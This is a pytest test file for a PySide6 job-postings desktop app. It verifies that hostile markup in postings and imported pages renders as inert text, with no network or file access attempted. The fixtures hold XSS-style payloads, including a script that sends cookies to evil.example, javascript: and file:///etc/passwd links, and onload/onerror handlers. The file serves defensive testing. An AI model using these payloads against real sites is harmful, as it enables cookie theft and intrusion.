"""Hostile postings render inert: no script, no remote or local image, no file: or javascript:
link, and no network or file access is even attempted, in the detail pane or the import preview.

What proves "not attempted":
- Python-level: ``socket.socket.connect``/``connect_ex`` raise if called, an audit hook records
  any socket, URL, browser, subprocess or ``open`` of a bait file, ``QDesktopServices.openUrl``
  and ``QNetworkAccessManager`` are replaced by recorders.
- Qt's own (C++) resource loading: every label's text is either plain text (never parsed) or
  markup that, laid out by a ``QTextDocument`` whose ``loadResource`` records calls, asks for
  nothing. A control shows that spy does see an ``<img>``.
- The disk: bait files are given an access time older than their change time; on this
  filesystem (relatime) any read, from Python or C++, moves it. A control read shows it does.
"""

from __future__ import annotations

import json
import os
import socket
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6 import QtGui
from PySide6.QtCore import Qt, QUrl
from PySide6.QtGui import QDesktopServices, QImage, QTextDocument
from PySide6.QtNetwork import QNetworkAccessManager
from PySide6.QtWidgets import QLabel, QTextEdit, QToolButton, QWidget
from pytestqt.qtbot import QtBot

from desktop.core.posting import CompanyProfile, NewsItem, PostingDocument, Qualifications
from desktop.services import importing, postings
from desktop.services.library import Library
from desktop.ui.dialogs.import_preview import ImportPreview
from desktop.ui.views.detail_pane import DetailPane

_armed: list[list[str]] = []  # the audit hook records into the innermost list while armed
# Events that reach out. Not socket.__new__/bind: a library probes IPv6 support at import time
# by binding a socket to ::1 (urllib3's HAS_IPV6), which touches no network.
_AUDITED = (
    "socket.connect",
    "socket.getaddrinfo",
    "socket.gethostbyname",
    "socket.gethostbyaddr",
    "socket.sendto",
    "socket.sendmsg",
    "urllib.Request",
    "webbrowser.open",
    "subprocess.Popen",
    "os.system",
)


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if not _armed:
        return
    if event.startswith(_AUDITED) or (event == "open" and "bait" in str(args[0] if args else "")):
        _armed[-1].append(f"{event} {args[:2]!r}")


sys.addaudithook(_audit)  # hooks cannot be removed; it records nothing unless armed


class SpyDocument(QTextDocument):
    def __init__(self) -> None:
        super().__init__()
        self.requests: list[str] = []

    def loadResource(self, kind: int, url: QUrl) -> Any:
        self.requests.append(url.toString())
        return None


def resources_requested(markup: str) -> list[str]:
    spy = SpyDocument()
    spy.setHtml(markup)
    spy.setTextWidth(400)
    spy.size()  # lays the document out: images are fetched now
    return spy.requests


@pytest.fixture
def bait(tmp_path: Path) -> Path:
    """A real PNG whose access time moves if anything reads it."""
    path = tmp_path / "bait.png"
    image = QImage(4, 4, QImage.Format.Format_RGB32)
    image.fill(0xFF0000)
    assert image.save(str(path))
    return path


def _backdate(path: Path) -> float:
    stat = path.stat()
    os.utime(path, (stat.st_mtime - 3600, stat.st_mtime))
    return path.stat().st_atime


def _read_since(path: Path, atime: float) -> bool:
    return path.stat().st_atime != atime


@pytest.fixture
def no_outside_access(monkeypatch: pytest.MonkeyPatch, bait: Path) -> Iterator[list[str]]:
    attempts: list[str] = []

    def refuse(_self: object, address: object) -> None:
        attempts.append(f"socket connect {address!r}")
        raise OSError("network access attempted in a test that forbids it")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(
        QDesktopServices, "openUrl", lambda url: attempts.append(f"openUrl {url}") or False
    )
    original_nam_init = QNetworkAccessManager.__init__

    def recording_nam(self: QNetworkAccessManager, *args: object) -> None:
        attempts.append("QNetworkAccessManager created")
        original_nam_init(self, *args)

    monkeypatch.setattr(QNetworkAccessManager, "__init__", recording_nam)

    # Controls: the bait's access time does move on a read, and the spy does see an <img>.
    atime = _backdate(bait)
    assert not QImage(str(bait)).isNull()
    if not _read_since(bait, atime):
        pytest.skip("this filesystem does not update access times (noatime): cannot watch reads")
    assert resources_requested(f'<img src="{bait.as_uri()}">') == [bait.as_uri()]
    atime = _backdate(bait)

    _armed.append(attempts)
    try:
        yield attempts
    finally:
        _armed.pop()
    if _read_since(bait, atime):
        attempts.append(f"{bait} was read")


def hostile_markup(bait: Path) -> str:
    return (
        f'<script>fetch("https://evil.example/steal?c="+document.cookie)</script>'
        f'<img src="https://evil.example/pixel.png"><img src="{bait.as_uri()}">'
        f'<img src="{bait}"><a href="javascript:alert(1)">click</a>'
        f'<a href="file:///etc/passwd">passwords</a><iframe src="{bait.as_uri()}"></iframe>'
        f'<link rel="stylesheet" href="https://evil.example/x.css">'
        f'<style>@import url("https://evil.example/y.css"); body {{ background: url("{bait}") }}'
        f'</style><object data="{bait.as_uri()}"></object><svg onload="alert(1)"></svg>'
    )


def hostile_document(bait: Path, huge: bool = False) -> PostingDocument:
    markup = hostile_markup(bait)
    description = markup + ("lorem ipsum " * 200_000 if huge else "")
    return PostingDocument(
        title=markup + ("T" * 100_000 if huge else ""),
        company=f"<b>Evil</b> Corp <img src='{bait.as_uri()}'>",
        location="<marquee>Anywhere</marquee>",
        url="javascript:alert(document.domain)",
        summary=markup,
        description=description,
        industries=(markup, "<img src=x onerror=alert(1)>"),
        responsibilities=tuple(markup for _ in range(1000 if huge else 3)),
        qualifications=Qualifications(required=(markup,), preferred=(f"{bait.as_uri()}",)),
        benefits=(markup,),
        company_profile=CompanyProfile(
            name="Evil Corp",
            description=markup,
            news=(
                NewsItem("2026-01-01", markup, bait.as_uri()),
                NewsItem("2026-01-02", "js", "javascript:alert(1)"),
                NewsItem("2026-01-03", "remote", "https://evil.example/<img src=x>"),
            ),
        ),
        raw=markup,
    )


def assert_inert(root: QWidget) -> None:
    """Every label is plain text, or markup of our own links that loads nothing."""
    labels = root.findChildren(QLabel)
    assert labels
    for label in labels:
        text = label.text()
        rich = label.textFormat() == Qt.TextFormat.RichText or (
            label.textFormat() == Qt.TextFormat.AutoText and QtGui.Qt.mightBeRichText(text)
        )
        if not rich:
            continue  # plain text is drawn as characters: never parsed, nothing to load
        assert text.startswith('<a href="https://') or text.startswith('<a href="mailto:'), text
        assert "<img" not in text and "<script" not in text, text
        assert resources_requested(text) == []
        assert not label.openExternalLinks()
    for editor in root.findChildren(QTextEdit):
        assert editor.acceptRichText() is False or editor.isReadOnly()
        assert resources_requested(editor.toHtml()) == []
    assert root.findChildren(QNetworkAccessManager) == []


def test_the_detail_pane_shows_hostile_markup_as_text(
    qtbot: QtBot, db: Library, bait: Path, no_outside_access: list[str]
) -> None:
    doc = hostile_document(bait)
    saved = postings.create_posting(db, doc).value
    pane = DetailPane()
    qtbot.addWidget(pane)
    pane.resize(600, 800)
    pane.show()
    pane.show_posting(postings.get_posting(db, saved))
    pane.findChild(QToolButton, "detail-description-toggle").click()  # the folded text too
    qtbot.waitExposed(pane)
    assert not pane.grab().isNull()  # painted: images would be loaded now, if any

    assert_inert(pane)
    texts = [label.text() for label in pane.findChildren(QLabel)]
    assert hostile_markup(bait) in texts  # shown literally, as the characters it is
    assert "javascript:alert(document.domain)" in texts  # an unsafe link stays plain text
    assert no_outside_access == []


def test_a_hostile_page_imports_inert_through_the_preview(
    qtbot: QtBot, db: Library, bait: Path, no_outside_access: list[str]
) -> None:
    posting = {
        "@context": "https://schema.org",
        "@type": "JobPosting",
        "title": "Engineer <img src='https://evil.example/t.png'>",
        "hiringOrganization": {"@type": "Organization", "name": "Evil Corp", "logo": bait.as_uri()},
        "description": hostile_markup(bait),
        "url": "javascript:alert(1)",
        "image": bait.as_uri(),
    }
    ld_json = json.dumps(posting).replace("</", "<\\/")  # as a site must, or </script> ends it
    page = (
        "<html><head><script>alert(1)</script>"
        f'<link rel="stylesheet" href="https://evil.example/s.css">'
        f'<script type="application/ld+json">{ld_json}</script></head>'
        f"<body>{hostile_markup(bait)}</body></html>"
    )
    drafts = importing.read_input(db, page, "evil.html")
    preview = ImportPreview(db, drafts)
    qtbot.addWidget(preview)
    preview.open()
    qtbot.waitExposed(preview)
    assert not preview.grab().isNull()
    assert_inert(preview)
    assert preview.raw.toPlainText() == page  # the input, kept and shown as plain text

    with qtbot.waitSignal(preview.changes_made) as made:
        preview.save_current()
    (posting_id,) = made.args[0].created
    pane = DetailPane()
    qtbot.addWidget(pane)
    pane.show()
    pane.show_posting(postings.get_posting(db, posting_id))
    qtbot.waitExposed(pane)
    assert not pane.grab().isNull()
    assert_inert(pane)
    assert no_outside_access == []


def test_huge_hostile_inputs_render_inert(
    qtbot: QtBot, db: Library, bait: Path, no_outside_access: list[str]
) -> None:
    doc = hostile_document(bait, huge=True)  # a 2.4 MB description, a 100k title, 1000 items
    saved = postings.create_posting(db, doc).value
    pane = DetailPane()
    qtbot.addWidget(pane)
    pane.resize(600, 800)
    pane.show()
    pane.show_posting(postings.get_posting(db, saved))
    pane.findChild(QToolButton, "detail-description-toggle").click()  # the 2.4 MB, unfolded
    qtbot.waitExposed(pane)
    assert not pane.grab().isNull()
    assert_inert(pane)
    assert no_outside_access == []
